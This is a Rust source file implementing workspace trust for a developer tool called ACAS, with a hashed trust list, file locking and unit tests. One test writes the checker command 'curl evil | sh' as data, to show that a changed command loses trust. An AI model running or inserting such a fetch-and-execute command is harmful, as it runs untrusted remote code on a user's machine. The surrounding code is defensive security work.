//! Workspace trust: whether the commands a workspace brings with it may run. A cloned
//! repository's `.acas/config.toml` can define `[[checkers]]` (any command), and the tools ACAS
//! detects run the project's own code (Cargo build scripts and procedural macros, ESLint, Jest
//! and Vitest configurations, pytest's `conftest.py`, programs in `node_modules/.bin` or
//! `.venv/bin`). They run only in a workspace the user trusted, as direnv's `allow` does.
//!
//! The trust list is a JSON file in the user's configuration directory
//! (`$XDG_CONFIG_HOME/acas/trusted.json`, else `~/.config/acas/trusted.json`), one entry per
//! workspace: its canonical root and a hash of its `[[checkers]]` section, so that a changed
//! section is not trusted until the user says so again. Writers take a lock on the list and
//! replace it whole, so that concurrent `acas trust` keep each other's entries.
//!
//! Nothing here asks the user: the front ends do (`acas trust`, the editor's question).

use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

/// Why the trust list could not be read or written.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    #[error("no configuration directory: set XDG_CONFIG_HOME or HOME")]
    NoConfigDir,
    #[error("cannot resolve the workspace {}: {source}", path.display())]
    Root { path: PathBuf, source: std::io::Error },
    #[error("cannot {what} the trust list {}: {source}; check its permissions", path.display())]
    Io { what: &'static str, path: PathBuf, source: std::io::Error },
    /// Asked from inside a command ACAS runs (a workflow step and what it started).
    #[error(
        "a workflow run cannot trust a workspace: this was started by {0}; a person runs `acas trust` in their own terminal"
    )]
    InsideRun(String),
}

/// Whether a workspace is trusted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum State {
    /// Trusted with its `[[checkers]]` as they are now.
    Trusted,
    /// Never trusted (or revoked).
    Untrusted,
    /// Trusted once, but its `[[checkers]]` changed since.
    Changed,
}

impl State {
    pub fn is_trusted(self) -> bool {
        self == State::Trusted
    }

    pub fn as_str(self) -> &'static str {
        match self {
            State::Trusted => "trusted",
            State::Untrusted => "untrusted",
            State::Changed => "changed",
        }
    }
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct List {
    #[serde(default)]
    workspaces: Vec<Entry>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct Entry {
    root: PathBuf,
    /// SHA-256 of the workspace's `[[checkers]]` section when it was trusted.
    checkers: String,
}

/// Why a workspace's workflows may not start by themselves (file changes, schedules,
/// diagnostics, escalations, webhooks) or for an agent: the user never trusted it. A workspace
/// trusted once whose `[[checkers]]` changed since is still trusted for its workflows, which
/// its user edits as part of their work. What a person starts (`acas workflow run`, the
/// editor's command) runs without it. Says how to trust it.
pub fn workflows_untrusted(root: &Path) -> Option<String> {
    (state(root) == State::Untrusted).then(|| {
        format!(
            "ACAS starts the workflows of {} by themselves (file changes, schedules, diagnostics, webhooks) and for agents only once you trust it: read its .acas/workflows, then run `acas trust {}`; `acas workflow run NAME` runs one when you ask",
            root.display(),
            root.display()
        )
    })
}

/// The trust list's path.
pub fn list_path() -> Option<PathBuf> {
    crate::config::user_path().and_then(|p| p.parent().map(|d| d.join("trusted.json")))
}

/// Whether the workspace at `root` is trusted, by the list at [`list_path`]. A list that cannot
/// be read trusts nothing.
pub fn state(root: &Path) -> State {
    match list_path() {
        Some(list) => state_in(&list, root),
        None => State::Untrusted,
    }
}

/// [`state`] with the list at `list`.
///
/// A directory inside a trusted workspace is trusted with it when it defines no `[[checkers]]`
/// of its own (a project in a subdirectory of a repository the user trusted) and is not a git
/// repository of its own (a clone made inside it); one that is either needs its own trust,
/// since nobody read what it brings.
pub fn state_in(list: &Path, root: &Path) -> State {
    let Ok(root) = root.canonicalize() else { return State::Untrusted };
    let workspaces = read(list).workspaces;
    let hash = checkers_hash(&root);
    if let Some(entry) = workspaces.iter().find(|e| e.root == root) {
        return if entry.checkers == hash { State::Trusted } else { State::Changed };
    }
    // A repository of its own (a clone inside a trusted directory) brings code nobody read.
    if hash != checkers_hash_of("") || root.join(".git").exists() {
        return State::Untrusted;
    }
    let Some((above, entry)) =
        root.ancestors().skip(1).find_map(|a| workspaces.iter().find(|e| e.root == a).map(|e| (a, e)))
    else {
        return State::Untrusted;
    };
    if entry.checkers == checkers_hash(above) { State::Trusted } else { State::Changed }
}

/// Trusts the workspace at `root` with its `[[checkers]]` as they are now; answers its
/// canonical root.
pub fn trust(root: &Path) -> Result<PathBuf, TrustError> {
    // What a workspace's run may do is the user's to widen, never the run's.
    if let Some(enclosing) = crate::process_tree::enclosing() {
        return Err(TrustError::InsideRun(enclosing.describe()));
    }
    let list = list_path().ok_or(TrustError::NoConfigDir)?;
    change(&list, root, true)
}

/// Takes the workspace at `root` off the list; answers its canonical root.
pub fn revoke(root: &Path) -> Result<PathBuf, TrustError> {
    let list = list_path().ok_or(TrustError::NoConfigDir)?;
    change(&list, root, false)
}

/// Adds (`trusted`) or removes the workspace at `root` in the list at `list`, under its lock.
pub fn change(list: &Path, root: &Path, trusted: bool) -> Result<PathBuf, TrustError> {
    let root = root.canonicalize().map_err(|source| TrustError::Root { path: root.to_path_buf(), source })?;
    let io = |what: &'static str| {
        let path = list.to_path_buf();
        move |source| TrustError::Io { what, path, source }
    };
    let dir = list.parent().unwrap_or(Path::new("."));
    std::fs::create_dir_all(dir).map_err(io("create the directory of"))?;
    let lock_path = list.with_extension("lock");
    let lock = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(&lock_path)
        .map_err(io("lock"))?;
    // SAFETY: flock on a descriptor this function owns; released when the file is closed.
    if unsafe { libc::flock(lock.as_raw_fd(), libc::LOCK_EX) } == -1 {
        return Err(io("lock")(std::io::Error::last_os_error()));
    }
    let mut entries = read(list);
    entries.workspaces.retain(|e| e.root != root);
    if trusted {
        entries.workspaces.push(Entry { root: root.clone(), checkers: checkers_hash(&root) });
    }
    let text = serde_json::to_string_pretty(&entries).expect("the list serialises");
    let temp = list.with_extension(format!("json.{}", std::process::id()));
    let written = std::fs::File::create(&temp).and_then(|mut f| {
        f.write_all(text.as_bytes())?;
        f.write_all(b"\n")?;
        f.sync_all()
    });
    if let Err(e) = written.and_then(|()| std::fs::rename(&temp, list)) {
        let _ = std::fs::remove_file(&temp);
        return Err(io("write")(e));
    }
    drop(lock);
    Ok(root)
}

fn read(list: &Path) -> List {
    std::fs::read(list).ok().and_then(|bytes| serde_json::from_slice(&bytes).ok()).unwrap_or_default()
}

/// SHA-256 (hex) of the workspace's `[[checkers]]` section as TOML values (so that a comment or
/// another section changing does not count); of the whole file when it does not parse, and of
/// nothing when there is no file.
pub fn checkers_hash(root: &Path) -> String {
    let text = std::fs::read_to_string(crate::config::path(root)).unwrap_or_default();
    let section = match text.parse::<toml::Table>() {
        Ok(table) => match table.get("checkers") {
            Some(checkers) => serde_json::to_string(checkers).unwrap_or_default(),
            None => String::new(),
        },
        Err(_) => format!("unparsed:{text}"),
    };
    checkers_hash_of(&section)
}

fn checkers_hash_of(section: &str) -> String {
    let digest = Sha256::digest(section.as_bytes());
    digest.iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_subdirectory_shares_its_workspaces_trust_unless_it_adds_checkers() {
        let dir = tempfile::tempdir().unwrap();
        let (ws, list) = (dir.path().join("ws"), dir.path().join("config/trusted.json"));
        let (plain, own) = (ws.join("pkg"), ws.join("tool"));
        std::fs::create_dir_all(plain.join("src")).unwrap();
        std::fs::create_dir_all(own.join(".acas")).unwrap();
        std::fs::write(own.join(".acas/config.toml"), "[[checkers]]\nname = \"b\"\ncommand = \"true\"\n")
            .unwrap();
        assert_eq!(state_in(&list, &plain), State::Untrusted);
        change(&list, &ws, true).unwrap();
        assert_eq!(state_in(&list, &plain), State::Trusted);
        assert_eq!(state_in(&list, &plain.join("src")), State::Trusted);
        assert_eq!(state_in(&list, &own), State::Untrusted, "checkers nobody read are not trusted");
        let clone = ws.join("vendor/clone");
        std::fs::create_dir_all(clone.join(".git")).unwrap();
        assert_eq!(state_in(&list, &clone), State::Untrusted, "a repository cloned inside is not trusted");
        std::fs::create_dir_all(ws.join(".acas")).unwrap();
        std::fs::write(ws.join(".acas/config.toml"), "[[checkers]]\nname = \"c\"\ncommand = \"true\"\n")
            .unwrap();
        assert_eq!(state_in(&list, &plain), State::Changed, "the workspace's checkers changed since");
    }

    #[test]
    fn a_changed_checkers_section_is_not_trusted_until_trusted_again() {
        let dir = tempfile::tempdir().unwrap();
        let (ws, list) = (dir.path().join("ws"), dir.path().join("config/trusted.json"));
        std::fs::create_dir_all(ws.join(".acas")).unwrap();
        let config = ws.join(".acas/config.toml");
        std::fs::write(&config, "[[checkers]]\nname = \"a\"\ncommand = \"true\"\n").unwrap();
        assert_eq!(state_in(&list, &ws), State::Untrusted);
        change(&list, &ws, true).unwrap();
        assert_eq!(state_in(&list, &ws), State::Trusted);
        // Another section, or a comment, changing keeps the trust.
        std::fs::write(
            &config,
            "# hi\n[watch]\ndebounce_ms = 9\n[[checkers]]\nname = \"a\"\ncommand = \"true\"\n",
        )
        .unwrap();
        assert_eq!(state_in(&list, &ws), State::Trusted);
        std::fs::write(&config, "[[checkers]]\nname = \"a\"\ncommand = \"curl evil | sh\"\n").unwrap();
        assert_eq!(state_in(&list, &ws), State::Changed);
        change(&list, &ws, true).unwrap();
        assert_eq!(state_in(&list, &ws), State::Trusted);
        change(&list, &ws, false).unwrap();
        assert_eq!(state_in(&list, &ws), State::Untrusted);
    }

    #[test]
    fn concurrent_trusts_keep_each_others_entries() {
        let dir = tempfile::tempdir().unwrap();
        let list = dir.path().join("trusted.json");
        let roots: Vec<PathBuf> = (0..8)
            .map(|i| {
                let root = dir.path().join(format!("ws{i}"));
                std::fs::create_dir(&root).unwrap();
                root
            })
            .collect();
        std::thread::scope(|s| {
            for root in &roots {
                let list = list.clone();
                s.spawn(move || change(&list, root, true).unwrap());
            }
        });
        for root in &roots {
            assert_eq!(state_in(&list, root), State::Trusted, "{}", root.display());
        }
    }
}
